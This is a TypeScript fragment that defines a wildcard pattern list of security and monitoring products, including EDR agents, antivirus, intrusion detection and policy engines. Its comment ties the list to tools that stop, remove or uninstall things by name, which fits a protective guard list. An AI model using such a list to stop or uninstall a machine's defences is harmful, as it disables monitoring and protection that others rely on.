// What guards of a machine are called, for tools that stop, remove or uninstall things by name.
// Only names that hardly mean anything else stand here; services, whose names are longer, have a list of their own.

export const GUARD_PRODUCTS =
  "*falco*|*falcon-sensor*|*crowdstrike*|*sentinelone*|*sophos*|*symantec*|*mcafee*|*trellix*|*carbonblack*|*cylance*|*kaspersky*|*defender*|*wazuh*|*ossec*|*osquery*|*crowdsec*|*fail2ban*|*suricata*|*clamav*|*sysdig*|*auditbeat*|*tetragon*|*gatekeeper*|*kyverno*|*countersign*|*malwarebytes*|*bitdefender*|*fireeye*";
